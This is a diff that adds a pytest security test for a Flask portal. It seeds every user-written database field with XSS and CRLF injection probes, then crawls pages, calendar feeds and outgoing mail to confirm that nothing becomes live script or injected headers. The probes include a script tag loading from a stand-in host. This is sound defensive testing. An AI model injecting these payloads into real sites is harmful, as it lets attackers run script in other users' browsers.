@@ -1,0 +1,126 @@
+"""Hostile words in every text that people write: shown as text on every page, in every mail, in every calendar feed."""
+
+from collections.abc import Callable, Iterator
+
+import icalendar
+import pytest
+import sqlalchemy as sa
+from bs4 import BeautifulSoup
+from flask import Flask
+
+from portal.core import text
+from portal.core.database import Base
+from portal.extensions import db
+from tests.support.bad_input import encoded, forms_of
+from tests.support.crawler import walk
+from tests.support.reader import Reader
+
+URLENCODED = "application/x-www-form-urlencoded"
+PROBES = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "<svg/onload=alert(3)>",
+    "\"><script src=//evil.test/x.js></script>",
+    "' onmouseover='alert(4)",
+    '" autofocus onfocus="alert(5)',
+    "</title><script>alert(6)</script>",
+    "</textarea><script>alert(7)</script>",
+    "<iframe srcdoc='<script>alert(8)</script>'></iframe>",
+    "<a href=javascript:alert(9)>x</a>",
+    "[x](javascript:alert(10))",
+    "<math><mi xlink:href='data:text/html,alert(11)'>",
+    "&lt;script&gt;alert(12)&lt;/script&gt;",
+    "\r\nBEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM",
+)  # fmt: skip
+HOSTILE = " ".join(PROBES)
+# what people write, by the name of its column
+WRITTEN = {
+    "anchor_0", "anchor_1", "anchor_3", "anchor_5", "authority_name", "cancel_reason", "claim", "class_profile", "conditions",
+    "conflict_reason", "country_name", "county", "debrief", "delivered_words", "description", "evidence_named", "feedback",
+    "guidance", "head_name", "how_known", "introduction", "job", "justification", "last_author_name", "last_school_name",
+    "leaving_reason", "letter", "materials", "message", "name", "next_step", "note", "organisation", "person_evidence", "place",
+    "plan", "private_note", "promised", "rationale", "reason", "reasons", "register_evidence", "street", "summary",
+    "supporter_name", "supporter_post", "terms", "text", "text_shown", "theme", "theme_direction", "theme_reasons", "title",
+    "town", "what_offered", "what_supported", "words", "subject", "source", "website", "receipt_number", "last_error", "client",
+}  # fmt: skip
+NOT_PEOPLES = {"outbox_mail", "search_entry", "job"}
+ACCOUNTS = [
+    None,
+    "teacher",
+    "lead",
+    "head",
+    "abroad",
+    "reviewer",
+    "moderator",
+    "officer",
+    "manager",
+    "authority",
+    "admin",
+]
+
+
+@pytest.fixture
+def hostile(breakable: Flask) -> Flask:
+    """The demonstration, with hostile words after every text in it."""
+    with breakable.app_context(), db.engine.begin() as line:
+        for table in Base.metadata.sorted_tables:
+            columns = [
+                column
+                for column in table.columns
+                if column.name in WRITTEN
+                and isinstance(column.type, sa.String)
+                and not isinstance(column.type, sa.Enum)
+            ]
+            if columns and table.name not in NOT_PEOPLES:
+                line.execute(table.update().values({column: column.concat(HOSTILE) for column in columns}))
+        posts = Base.metadata.tables["post"]
+        line.execute(posts.update().values(html=text.to_html(HOSTILE)))
+    return breakable
+
+
+def live(page: BeautifulSoup) -> Iterator[str]:
+    """What of a page would do something, and was not put there by the portal."""
+    yield from (str(tag) for tag in page.select("script:not([src])"))
+    yield from (str(tag) for tag in page.select("script[src*='//'], iframe, object, embed, math, img[src=x]"))
+    for tag in page.find_all(True):
+        yield from (
+            f"<{tag.name} {name}>" for name in tag.attrs if name.lower().startswith("on") or name == "autofocus"
+        )
+        for name in ("href", "src", "action", "formaction", "xlink:href"):
+            where = "".join(str(tag.get(name, "")).split()).casefold()
+            if where.startswith(("javascript:", "data:text", "vbscript:")):
+                yield f"<{tag.name} {name}={where}>"
+
+
+@pytest.mark.parametrize("account", ACCOUNTS)
+def test_no_page_lets_hostile_words_live(
+    hostile: Flask, as_account: Callable[[str | None], Reader], account: str | None
+) -> None:
+    reader, walked, found = as_account(account), 0, list[str]()
+    for kind, path in walk(reader, each_kind=1):
+        walked += 1
+        found += [f"{kind} ({path}): {tag}"[:300] for tag in live(reader.page)]
+        if reader.headers["Content-Type"].startswith("text/calendar"):
+            alarms = icalendar.Calendar.from_ical(reader.raw).walk("VALARM")
+            found += [f"{kind} ({path}): {alarm}" for alarm in alarms]
+    assert walked >= 6
+    assert not found, "\n".join(found)
+
+
+def test_no_mail_carries_hostile_words_as_markup_or_headers(
+    hostile: Flask, as_account: Callable[[str | None], Reader]
+) -> None:
+    """Mail that is written from now on: an invitation of a colleague, a reply, a cancelled activity ... whatever the teacher's forms send."""
+    reader = as_account("contact")
+    for kind, path in walk(reader, each_kind=1):
+        for form in forms_of(reader.page, path):
+            reader.client.post(form.action, data=encoded(form.filled(HOSTILE)), content_type=URLENCODED)
+        reader.get(path, expect=None)
+        assert kind
+    with hostile.app_context(), db.engine.connect() as line:
+        mails = line.execute(sa.text("SELECT subject, html, address FROM outbox_mail")).all()
+    written = [mail for mail in mails if "alert(" in mail.subject or "alert(" in mail.html]
+    assert written
+    for mail in written:
+        assert not set("\r\n") & set(mail.subject + mail.address)
+        assert not list(live(BeautifulSoup(mail.html, "html.parser")))
